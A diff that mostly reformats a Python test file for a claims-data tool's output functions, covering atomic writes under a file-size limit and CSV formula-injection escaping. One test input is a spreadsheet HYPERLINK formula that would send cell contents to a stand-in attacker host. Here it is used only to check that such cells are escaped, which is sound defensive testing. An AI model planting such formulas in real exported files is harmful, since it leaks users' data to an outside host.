@@ -16,8 +16,16 @@ import pytest
 from features import outputs
 from features.contract import load_history, write_history
 from features.errors import RecoupError
-from features.outputs import (MARKER, check_dir_output, escape_formulas, unescape_formulas, write_csv, write_dir,
-                              write_file, write_text)
+from features.outputs import (
+    MARKER,
+    check_dir_output,
+    escape_formulas,
+    unescape_formulas,
+    write_csv,
+    write_dir,
+    write_file,
+    write_text,
+)
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -39,15 +47,17 @@ def _run_with_file_size_limit(code: str, limit: int) -> subprocess.CompletedProc
         resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
     """)
     env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"}
-    return subprocess.run([sys.executable, "-c", prelude + textwrap.dedent(code)], capture_output=True, text=True,
-                          env=env, timeout=300)
+    return subprocess.run(
+        [sys.executable, "-c", prelude + textwrap.dedent(code)], capture_output=True, text=True, env=env, timeout=300
+    )
 
 
 # ------------------------------------------------------------------------------------------ files
 def test_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path):
     target = tmp_path / "scores.csv"
     target.write_text("old content\n")
-    res = _run_with_file_size_limit(f"""
+    res = _run_with_file_size_limit(
+        f"""
         import pandas as pd
         from features.errors import RecoupError
         from features.outputs import write_csv
@@ -55,7 +65,9 @@ def test_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path):
             write_csv({str(target)!r}, pd.DataFrame({{"a": range(200_000)}}))
         except RecoupError as exc:
             print("ERROR", exc)
-    """, limit=64 * 1024)
+    """,
+        limit=64 * 1024,
+    )
     assert res.returncode == 0, res.stderr
     assert res.stdout.startswith("ERROR cannot write ") and str(target) in res.stdout
     assert "File too large" in res.stdout and len(res.stdout.strip().splitlines()) == 1
@@ -116,6 +128,7 @@ def _files(**files: str):
     def build(d: Path) -> None:
         for name, text in files.items():
             write_text(d / name, text)
+
     return build
 
 
@@ -192,7 +205,8 @@ def test_full_disk_in_a_folder_names_the_final_file(tmp_path):
     out = tmp_path / "out"
     write_dir(out, "generate", _files(**{"claims.csv": "old"}))
     before = _listing(out)
-    res = _run_with_file_size_limit(f"""
+    res = _run_with_file_size_limit(
+        f"""
         import pandas as pd
         from features.errors import RecoupError
         from features.outputs import write_csv, write_dir
@@ -201,7 +215,9 @@ def test_full_disk_in_a_folder_names_the_final_file(tmp_path):
                       lambda d: write_csv(d / "claims.csv", pd.DataFrame({{"a": range(200_000)}})))
         except RecoupError as exc:
             print("ERROR", exc)
-    """, limit=64 * 1024)
+    """,
+        limit=64 * 1024,
+    )
     assert res.returncode == 0, res.stderr
     assert res.stdout.strip() == f"ERROR cannot write {out / 'claims.csv'}: File too large"
     assert _listing(out) == before and _leftovers(tmp_path) == []
@@ -222,12 +238,23 @@ def test_symlink_and_file_at_a_folder_output_are_refused(tmp_path):
 
 # ------------------------------------------------------------------------------------------ CSV injection
 def test_formula_cells_are_escaped_numbers_are_not(tmp_path):
-    df = pd.DataFrame({
-        "claim_id": ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2", "@SUM(A1)", "\tx", "\rx",
-                     "'quoted", "C-1", None],
-        "amount": [-5.0, 1.0, -0.5, 2.0, 3.0, np.nan, 4.0, 5.0, 6.0],
-        "count": np.arange(9) - 4,
-    })
+    df = pd.DataFrame(
+        {
+            "claim_id": [
+                '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+                "+1",
+                "-2",
+                "@SUM(A1)",
+                "\tx",
+                "\rx",
+                "'quoted",
+                "C-1",
+                None,
+            ],
+            "amount": [-5.0, 1.0, -0.5, 2.0, 3.0, np.nan, 4.0, 5.0, 6.0],
+            "count": np.arange(9) - 4,
+        }
+    )
     esc = escape_formulas(df)
     assert esc["claim_id"].tolist()[:7] == ["'" + v for v in df["claim_id"][:7]]
     assert esc["claim_id"].iloc[7] == "C-1" and pd.isna(esc["claim_id"].iloc[8])
@@ -235,10 +262,11 @@ def test_formula_cells_are_escaped_numbers_are_not(tmp_path):
     pd.testing.assert_series_equal(esc["count"], df["count"])
     write_csv(tmp_path / "w.csv", df, for_people=True)
     rows = (tmp_path / "w.csv").read_bytes().split(b"\r\n")
-    assert rows[1].startswith(b'"\'=HYPERLINK(') and rows[1].endswith(b",-5.0,-4")  # numbers stay numbers
-    assert rows[3] == b"'-2,-0.5,-2" and rows[6] == b"\"'\rx\",,1"  # a lone CR is quoted
-    back = pd.read_csv(tmp_path / "w.csv", dtype={"claim_id": str}, keep_default_na=False,
-                       na_values={"claim_id": [""], "amount": [""]})
+    assert rows[1].startswith(b"\"'=HYPERLINK(") and rows[1].endswith(b",-5.0,-4")  # numbers stay numbers
+    assert rows[3] == b"'-2,-0.5,-2" and rows[6] == b'"\'\rx",,1'  # a lone CR is quoted
+    back = pd.read_csv(
+        tmp_path / "w.csv", dtype={"claim_id": str}, keep_default_na=False, na_values={"claim_id": [""], "amount": [""]}
+    )
     back = unescape_formulas(back, ["claim_id"])
     assert back["claim_id"].tolist()[:8] == df["claim_id"].tolist()[:8]
     np.testing.assert_array_equal(back["amount"], df["amount"])
@@ -278,5 +306,6 @@ def test_write_history_leaves_no_stale_table(tmp_path):
     tables = {**h.tables(), "coverage": None}
     write_history(tables, d, fmt="csv")
     assert sorted(p.name for p in d.iterdir()) == sorted(
-        f"{t}.csv" for t in ("claims", "claim_lines", "providers", "recoupments"))
+        f"{t}.csv" for t in ("claims", "claim_lines", "providers", "recoupments")
+    )
     assert load_history(d).coverage is None
